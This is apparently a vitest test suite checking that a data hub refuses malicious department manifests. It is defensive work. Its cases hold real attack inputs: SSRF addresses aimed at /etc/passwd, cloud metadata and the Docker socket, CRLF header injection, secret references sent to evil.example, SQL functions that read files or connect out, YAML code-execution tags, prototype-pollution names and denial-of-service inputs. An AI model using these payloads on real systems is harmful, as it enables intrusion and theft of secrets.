/** Departments that a stranger might register, each refused when it is read: where the fault stands, and why. */
import { describe, expect, test } from 'vitest'
import {
  BANK_MANIFEST,
  bankManifest,
  HOLDING_RECORDS,
  readTestDepartment,
} from '../../testkit/department-files.ts'

const SECRETS = {
  DATABASE_URL: 'postgres://hub:s3cret@db/hub',
  HEDUI_SECRET_KEY: 's3cret',
  AWS_SECRET_ACCESS_KEY: 's3cret',
  HTTPS_PROXY: 'http://user:s3cret@proxy',
}

interface Case {
  readonly name: string
  readonly manifest?: string
  readonly records?: string
  /** Where the fault stands: the path in the manifest, or empty. */
  readonly at: string
  readonly reason: RegExp
}

/** The bank's manifest with one text put in place of another. */
function changed(from: string, to: string): string {
  expect(BANK_MANIFEST).toContain(from)
  return BANK_MANIFEST.replace(from, () => to)
}

const source = (keys: object): string => bankManifest(keys)
const item = (keys: object): string => bankManifest({}, keys)
const body = (value: unknown): string => item({ request: { path: '/query', body: value } })
const measure = (keys: object): string => item({ measures: [{ kind: 'property.deposits', ...keys }] })
const sql = (statement: string): string =>
  bankManifest(
    { protocol: 'sql', baseUrl: undefined, url: 'postgres://reader@db.example/bank' },
    { request: { sql: statement }, response: { key: 'id', name: 'name' } },
  )
const graphql = (query: string): string =>
  bankManifest({ protocol: 'graphql' }, { request: { query, variables: { ids: '$idNumbers' } } })

function refused(cases: readonly Case[]): void {
  test.each(cases)('$name', ({ manifest = BANK_MANIFEST, records = HOLDING_RECORDS, at, reason }) => {
    const { plan, faults, messages } = readTestDepartment(manifest, records, SECRETS)
    expect(plan).toBeNull()
    expect(messages.join('\n')).toMatch(reason)
    expect(faults.filter((fault) => reason.test(fault.message)).map((fault) => fault.at)).toContain(at)
    for (const { line, column } of faults) expect(Math.min(line, column)).toBeGreaterThan(0)
    // Neither does a refusal give away what was asked for, nor does it grow with what was sent.
    expect(messages.join('\n')).not.toContain('s3cret')
    expect(messages.length).toBeLessThanOrEqual(101)
    for (const { message } of faults) expect(message.length).toBeLessThanOrEqual(501)
  })
}

describe('addresses that are none of a department', () => {
  refused(
    [
      'file:///etc/passwd',
      'gopher://127.0.0.1:6379/_FLUSHALL',
      'ftp://files.example',
      'data:application/json,{}',
      'javascript:alert(1)',
      'unix:/var/run/docker.sock',
      'http+unix://%2Fvar%2Frun%2Fdocker.sock/',
      '//metadata.example',
      'http:///metadata.example',
      'http:\\\\metadata.example',
      'http://bank.example@169.254.169.254/',
      'http://:x@bank.example/',
      'http://169.254.169.254\\@bank.example/',
      'http://bank.example#@169.254.169.254/',
      'http://bank.example?@169.254.169.254/',
      'http://bank.example/ HTTP/1.1\r\nHost: internal',
    ].map((baseUrl) => ({
      name: JSON.stringify(baseUrl),
      manifest: source({ baseUrl }),
      at: 'source.baseUrl',
      reason: /write an address such as https/,
    })),
  )
  refused([
    {
      name: 'a token server that is none',
      manifest: source({
        auth: { kind: 'oauth2', tokenUrl: 'file:///etc/passwd', clientId: 'a', secretRef: 'BANK_KEY' },
      }),
      at: 'source.auth.tokenUrl',
      reason: /write an address such as https/,
    },
    {
      name: 'a database address with a file in it',
      manifest: sql('select 1 where id = any($idNumbers)').replace('/bank', '/bank?sslkey=/etc/shadow'),
      at: 'source.url',
      reason: /sslkey cannot be set here/,
    },
    {
      name: 'a database of a kind that is not known',
      manifest: sql('select 1 where id = any($idNumbers)').replace('postgres:', 'file:'),
      at: 'source.url',
      reason: /write an address such as postgres/,
    },
  ])
})

describe('what the hub knows and a department does not', () => {
  refused(
    ['DATABASE_URL', 'HEDUI_SECRET_KEY', 'AWS_SECRET_ACCESS_KEY', 'HTTPS_PROXY', 'PGPASSWORD'].flatMap(
      (name): Case[] => [
        {
          name: `\${${name}} in an address`,
          manifest: source({ baseUrl: `http://evil.example/\${${name}}` }),
          at: 'source.baseUrl',
          reason: /cannot be used in a manifest/,
        },
        {
          name: `\${${name}} in a body`,
          manifest: body({ ids: '$idNumbers', x: `\${${name}:-x}` }),
          at: 'items[0].request.body.x',
          reason: /cannot be used in a manifest/,
        },
        {
          name: `$secret: ${name}`,
          manifest: body({ ids: '$idNumbers', x: { $secret: name } }),
          at: 'items[0].request.body.x.$secret',
          reason: /cannot be a secret here/,
        },
        {
          name: `secretRef: ${name}`,
          manifest: source({ auth: { kind: 'bearer', secretRef: name } }),
          at: 'source.auth.secretRef',
          reason: /of the department's own/,
        },
        {
          name: `tls.keyRef: ${name}`,
          manifest: source({ baseUrl: 'https://bank.example', tls: { caRef: name } }),
          at: 'source.tls.caRef',
          reason: /of the department's own/,
        },
      ],
    ),
  )
  refused([
    {
      name: 'a password that is written out',
      manifest: sql('select 1 where id = any($idNumbers)').replace(
        /url: .*/,
        'url: postgres://hub:geheim@db.example/d',
      ),
      at: 'source.url',
      reason: /a password never stands in a manifest/,
    },
    {
      name: 'a password as the default of a reference',
      manifest: source({ baseUrl: `\${BANK_X:-https://hub:geheim@bank.example}` }),
      at: 'source.baseUrl',
      reason: /a password never stands in a manifest/,
    },
    {
      name: 'a reference inside a reference',
      manifest: source({ baseUrl: `http://evil.example/\${BANK_X:-\${DATABASE_URL}}` }),
      at: 'source.baseUrl',
      reason: /do not stand inside each other/,
    },
    {
      name: '60,000 references that are not closed',
      manifest: source({ baseUrl: '${'.repeat(60_000) }),
      at: 'source.baseUrl',
      reason: /not closed/,
    },
    {
      name: '60,000 references that are closed at once',
      manifest: source({ baseUrl: `${'${'.repeat(60_000)}}` }),
      at: 'source.baseUrl',
      reason: /do not stand inside each other/,
    },
  ])
})

describe('requests that would be other requests', () => {
  refused([
    ...['/a/../../admin', '/%2e%2E/admin', '/./a', '/..'].map((path) => ({
      name: `the path ${path}`,
      manifest: item({ request: { path, body: { ids: '$idNumbers' } } }),
      at: 'items[0].request.path',
      reason: /remove the segments/,
    })),
    ...['/a b', '/a\r\nHost: x', '/a?x=1', '/a#x', '/\u0001', '/人', 'http://other.example/'].map((path) => ({
      name: `the path ${JSON.stringify(path)}`,
      manifest: item({ request: { path, body: { ids: '$idNumbers' } } }),
      at: 'items[0].request.path',
      reason: /write a path that begins with/,
    })),
    {
      name: 'a slot in a path',
      manifest: item({ request: { path: '/people/$idNumber', body: { ids: '$idNumbers' } } }),
      at: 'items[0].request.path',
      reason: /a path has no slots/,
    },
    ...['Host', 'Content-Length', 'transfer-encoding', 'Connection', 'Upgrade', 'Proxy-Authorization'].map(
      (name) => ({
        name: `the header ${name}`,
        manifest: source({ headers: { [name]: 'x' } }),
        at: `source.headers.${name}`,
        reason: /part of the connection/,
      }),
    ),
    ...['Authorization', 'Cookie'].map((name) => ({
      name: `a secret in the header ${name}`,
      manifest: source({ headers: { [name]: 'Bearer x' } }),
      at: `source.headers.${name}`,
      reason: /a secret never stands in a manifest/,
    })),
    ...['a\r\nHost: internal', 'a\nb', 'a\u0001', '人'].map((value) => ({
      name: `the header value ${JSON.stringify(value)}`,
      manifest: source({ headers: { 'x-office': value } }),
      at: 'source.headers.x-office',
      reason: /one line of ASCII/,
    })),
    {
      name: 'a key sent as Host',
      manifest: source({ auth: { kind: 'header', name: 'host', secretRef: 'BANK_KEY' } }),
      at: 'source.auth.name',
      reason: /part of the connection/,
    },
    {
      name: 'a line break in a signed header',
      manifest: source({
        auth: {
          kind: 'hmac',
          secretRef: 'BANK_KEY',
          canonical: ['$path'],
          headers: { 'x-app': 'a\r\nHost: internal' },
        },
      }),
      at: 'source.auth.headers.x-app',
      reason: /there is no such part/,
    },
    {
      name: 'a SOAP action with a line break',
      manifest: bankManifest(
        { protocol: 'soap' },
        { request: { path: '/', action: 'a"\r\nHost: x', body: { Q: '$idNumbers' } } },
      ),
      at: 'items[0].request.action',
      reason: /no quotes and no line breaks/,
    },
    {
      name: 'a mutation',
      manifest: graphql('mutation M($ids: [ID!]!) { delete(ids: $ids) }'),
      at: 'items[0].request.query',
      reason: /no mutation/,
    },
    {
      name: 'a query that nests 60,000 deep',
      manifest: graphql(`query Q($ids: [ID!]!) ${'{a'.repeat(60_000)}${'}'.repeat(60_000)}`),
      at: 'items[0].request.query',
      reason: /nests too deep|more that 4000 tokens/,
    },
    {
      name: 'a query of 50,000 aliases',
      manifest: graphql(`query Q($ids: [ID!]!) { ${'a(i: $ids) '.repeat(20_000)} }`),
      at: 'items[0].request.query',
      reason: /more that 4000 tokens/,
    },
  ])
})

describe('SQL that is not one reading of a view', () => {
  const where = 'where id = any($idNumbers)'
  refused(
    (
      [
        [`delete from h ${where}`, /begins with select or with/],
        [`select 1 ${where}; drop table h`, /without a semicolon/],
        ['select 1', /asks about no people/],
        [`select $secret ${where}`, /no parameter \$secret/],
        [`select $$x$$ ${where}`, /no parameter \$/],
        [`select /*!50000 secret */ 1 ${where}`, /run what stands in some comments/],
        [`select 1 ${where} /*`, /run what stands in some comments/],
        [`select pg_sleep(10) from h ${where}`, /pg_sleep cannot stand/],
        [`select "pg_sleep"(10) from h ${where}`, /pg_sleep cannot stand/],
        [`select pg_catalog.PG_Read_File('/etc/passwd') ${where}`, /PG_Read_File cannot stand/],
        [`select pg_terminate_backend(1) ${where}`, /pg_terminate_backend cannot stand/],
        [`select u&"pg\\005fsleep"(10) ${where}`, /u&" cannot stand/],
        [`select set_config('default_transaction_read_only', 'off', false) ${where}`, /set_config cannot/],
        [`select lo_import('/etc/passwd') ${where}`, /lo_import cannot stand/],
        [`select * from dblink('host=10.0.0.1', 'select 1') t(a int) ${where}`, /dblink cannot stand/],
        [`select query_to_xml('delete from h', true, false, '') ${where}`, /query_to_xml cannot stand/],
        [`select nextval('s') ${where}`, /nextval cannot stand/],
        [`select * into outfile '/tmp/x' from h ${where}`, /into cannot stand/],
        [`select load_file('/etc/passwd') ${where}`, /load_file cannot stand/],
        [`select sleep(10) ${where}`, /sleep cannot stand/],
        [`select benchmark(1e9, md5('x')) ${where}`, /benchmark cannot stand/],
        [`select get_lock('x', 10) ${where}`, /get_lock cannot stand/],
        [`select @@global.secure_file_priv ${where}`, /@@ cannot stand/],
        [`select @a := 1 ${where}`, /:= cannot stand/],
        [`select 1 from h ${where} for update`, /for update cannot stand/],
        [`select 1 from h ${where} lock in share mode`, /lock in cannot stand/],
        [`select '${'x'.repeat(9000)}' ${where}`, /8000 characters at most/],
      ] as const
    ).map(([statement, reason]) => ({
      name: statement.slice(0, 80),
      manifest: sql(statement),
      at: 'items[0].request.sql',
      reason,
    })),
  )
})

describe('YAML that grows, runs or deceives', () => {
  const laughs = `a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nslug: *c\n`
  refused([
    { name: 'aliases of aliases', manifest: laughs + BANK_MANIFEST, at: '', reason: /aliases/ },
    {
      name: 'a merge key',
      manifest: changed('slug: bank', 'slug: bank\n<<: { steward: { name: x } }'),
      at: '<<',
      reason: /no such key/,
    },
    {
      name: 'a merge key of YAML 1.1',
      manifest: `%YAML 1.1\n---\n${changed('slug: bank', 'slug: bank\n<<: { steward: { name: x } }')}`,
      at: '',
      reason: /written in YAML 1.2/,
    },
    ...['!!js/function', '!!js/regexp', '!!python/object/apply:os.system', '!!binary', '!x'].map((tag) => ({
      name: `the tag ${tag}`,
      manifest: changed('slug: bank', `slug: ${tag} bank`),
      at: '',
      reason: /Unresolved tag/,
    })),
    {
      name: 'a key that stands twice',
      manifest: changed('slug: bank', 'slug: bank\nslug: housing'),
      at: '',
      reason: /keys must be unique/,
    },
    { name: 'two documents', manifest: `${BANK_MANIFEST}---\nslug: b\n`, at: '', reason: /not valid YAML/ },
    ...['[', '{a: ', '- '].map((open) => ({
      name: `${JSON.stringify(open)} 60,000 times`,
      manifest: changed('body: { ids: $idNumbers }', `body:\n        ${open.repeat(60_000)}`),
      at: '',
      reason: /nests more than 64 levels deep/,
    })),
    {
      name: 'a megabyte',
      manifest: `${BANK_MANIFEST}# ${'x'.repeat(1_000_000)}`,
      at: '',
      reason: /longer than 262144 characters/,
    },
    {
      name: '15,000 keys',
      manifest: changed(
        'number: no',
        Array.from({ length: 15_000 }, (_, at) => `k${at}: a`).join('\n      '),
      ),
      at: '',
      reason: /\d+ more faults/,
    },
    {
      name: 'half a character in a title',
      manifest: changed('zh: 银行', 'zh: "\\ud800"'),
      at: '',
      reason: /a character that is none/,
    },
    {
      name: 'a NUL in a title',
      manifest: changed('zh: 银行', 'zh: "a\\0"'),
      at: '',
      reason: /a character that is none/,
    },
    ...['a\nb', 'a\u0007', 'bank \u202Egnorw'].map((zh) => ({
      name: `the title ${JSON.stringify(zh)}`,
      manifest: changed('zh: 银行', `zh: ${JSON.stringify(zh)}`),
      at: 'title.zh',
      reason: /one line of text/,
    })),
    {
      name: '101 items',
      manifest: BANK_MANIFEST + BANK_MANIFEST.slice(BANK_MANIFEST.indexOf('  - id:')).repeat(100),
      at: 'items',
      reason: /<=100 items/,
    },
  ])
})

describe('names that mean something to the machine', () => {
  refused([
    ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'].flatMap((name): Case[] => [
      {
        name: `${name} as a key of the map`,
        manifest: changed('number: no', `number: no\n      ${name}: x`),
        at: '',
        reason: /is a reserved name/,
      },
      {
        name: `${name} as a place in the answer`,
        manifest: changed('number: no', `number: a.${name}.b`),
        at: 'items[0].map.number',
        reason: /is no name that a department's field may have/,
      },
      {
        name: `${name} as a parameter`,
        manifest: changed('ids: $idNumbers', `ids: $idNumbers, ${name}: 1`),
        at: '',
        reason: /is a reserved name/,
      },
    ]),
    ...['constructor', 'toString', 'valueOf', 'hasOwnProperty'].map((name) => ({
      name: `${name} as a field of Person`,
      manifest: changed('field: holdings', `field: ${name}`),
      at: 'items[0].field',
      reason: /a name of JavaScript's own/,
    })),
    {
      name: '__typename as a field of Person',
      manifest: changed('field: holdings', 'field: __typename'),
      at: 'items[0].field',
      reason: /camelCase/,
    },
    {
      name: 'constructor as a department',
      manifest: changed('slug: bank', 'slug: constructor'),
      at: 'slug',
      reason: /a name of JavaScript's own/,
    },
  ])
})

describe('SDL that grows, collides or commands', () => {
  const holding = 'type Holding { number: String! amount: Decimal! '
  const many = (count: number, write: (at: number) => string): string =>
    Array.from({ length: count }, (_, at) => write(at)).join('\n')
  refused(
    (
      [
        ['100,000 fields', `${holding}${'a: Int '.repeat(100_000)}}`, /longer than 262144/],
        ['30,000 fields', `${holding}${'a: Int '.repeat(30_000)}}`, /more that 20000 tokens/],
        ['3,000 fields', `${holding}${many(3000, (at) => `f${at}: Int`)}}`, /more than 2000 fields/],
        ['3,000 enum values', `${holding}e: E }\nenum E {${many(3000, (at) => `V${at}`)}}`, /more than 2000/],
        ['600 types', `${holding}}\n${many(600, (at) => `type T${at} { a: Int }`)}`, /more than 500 types/],
        ['a megabyte of comment', `# ${'x'.repeat(1_000_000)}\n${HOLDING_RECORDS}`, /longer than 262144/],
        [
          'a list 9,000 deep',
          `${holding}a: ${'['.repeat(9000)}Int${']'.repeat(9000)} }`,
          /too deep|list of lists/,
        ],
        ['a type in itself', `${holding}self: Holding }`, /contains itself/],
        ['types in a circle', `${holding}a: A }\ntype A { b: B }\ntype B { a: A }`, /contains itself/],
        [
          'types 40 deep, innermost first',
          `${many(40, (at) => `type T${at} { ${at === 0 ? 'a: Int' : `t: T${at - 1}`} }`)}\n${holding}t: T39 }`,
          /nest more than 6 deep/,
        ],
        ['a query', `${HOLDING_RECORDS}\nextend type Query { all: [Holding] }`, /only object types/],
        ['an extension of Person', `${HOLDING_RECORDS}\nextend type Person { a: Int }`, /only object types/],
        ['a schema', `${HOLDING_RECORDS}\nschema { query: Holding }`, /only object types/],
        ['a directive of its own', `${HOLDING_RECORDS}\ndirective @x on OBJECT`, /only object types/],
        ['an input', `${HOLDING_RECORDS}\ninput A { a: Int }`, /only object types/],
        ['a union', `${HOLDING_RECORDS}\nunion A = Holding`, /only object types/],
        ['a directive', `type Holding @key(fields: "number") { number: String! }`, /no directive/],
        ['a directive on a field', `${holding}a: Int @inaccessible }`, /no directive/],
        ['@deprecated with a number', `${holding}a: Int @deprecated(reason: 1) }`, /write @deprecated/],
        ['@deprecated with more', `${holding}a: Int @deprecated(x: "y") }`, /write @deprecated/],
        ['@deprecated twice', `${holding}a: Int @deprecated @deprecated }`, /stands here twice/],
        ...['Query', 'Mutation', 'Subscription', 'Person', 'String', 'ID', 'Decimal'].map(
          (name) =>
            [`the type ${name}`, `${HOLDING_RECORDS}\ntype ${name} { a: Int }`, /is there already/] as const,
        ),
        ['the type __Schema', `${HOLDING_RECORDS}\ntype __Schema { a: Int }`, /PascalCase/],
        ['a type that is a finding', `${HOLDING_RECORDS}\ntype AFinding { a: Int }`, /derives types/],
        ...['__proto__', 'constructor', 'toString', '__typename', 'valueOf'].map(
          (name) => [`the field ${name}`, `${holding}${name}: Int }`, /is no name for a field/] as const,
        ),
        ...['__proto__', 'constructor', 'prototype', '__A'].map(
          (name) =>
            [
              `the value ${name}`,
              `${holding}e: E }\nenum E { ${name} }`,
              /no name for an enum value/,
            ] as const,
        ),
        ['a value twice', `${holding}e: E }\nenum E { A A }`, /has the value A twice/],
        ['an empty type', `${holding}e: E }\ntype E`, /E is empty/],
        ['an empty enum', `${holding}e: E }\nenum E`, /E is empty/],
        ['names that look alike', 'type Ноlding { a: Int }', /Unexpected character/],
        ['Chinese names', 'type 存款 { a: Int }', /Unexpected character/],
      ] as const
    ).map(([name, records, reason]) => ({ name, records, at: '', reason })),
  )
})

describe('expressions that are programs', () => {
  const places: readonly (readonly [string, (cel: string) => string])[] = [
    ['items[0].map.number.cel', (cel) => item({ map: { number: { cel }, amount: 'amount' } })],
    ['items[0].where', (cel) => item({ where: cel })],
    ['items[0].measures[0].value', (cel) => measure({ value: cel })],
    ['items[0].measures[0].when', (cel) => measure({ value: 'record.amount', when: cel })],
    ['items[0].measures[0].unless', (cel) => measure({ value: 'record.amount', unless: cel })],
  ]
  refused(
    places.flatMap(([at, write]) =>
      (
        [
          ['a pattern', `"a".matches("(a+)+$")`, /matches is not allowed/],
          ['a pattern in a loop', `[1].all(x, "aa".matches("(a|a)*$"))`, /matches is not allowed/],
          ['2,001 characters', `1 == 1${' '.repeat(2000)}`, /2000 characters at most/],
          ['too many terms', Array(150).fill('1').join('+'), /Exceeded maxAstNodes|exceed/i],
          ['too many brackets', `${'('.repeat(500)}1${')'.repeat(500)}`, /Exceeded maxDepth|exceed/i],
          ['too many signs', `${'!'.repeat(500)}true`, /Exceeded maxDepth|exceed/i],
          ['a list too long', `[${Array(150).fill('1').join(',')}] == []`, /exceed/i],
        ] as const
      ).map(([name, cel, reason]) => ({ name: `${name} at ${at}`, manifest: write(cel), at, reason })),
    ),
  )
})

test('a department within all limits is not refused', () => {
  const records = `${HOLDING_RECORDS.replace('amount:', 'state: State @deprecated(reason: "old") amount:')}
enum State { IN_FORCE @deprecated ENDED }`
  const manifest = bankManifest(
    { headers: { 'x-office': 'a b; c' } },
    { where: 'record.amount > decimal("0")' },
  )
  expect(readTestDepartment(manifest, records).messages).toEqual([])
})
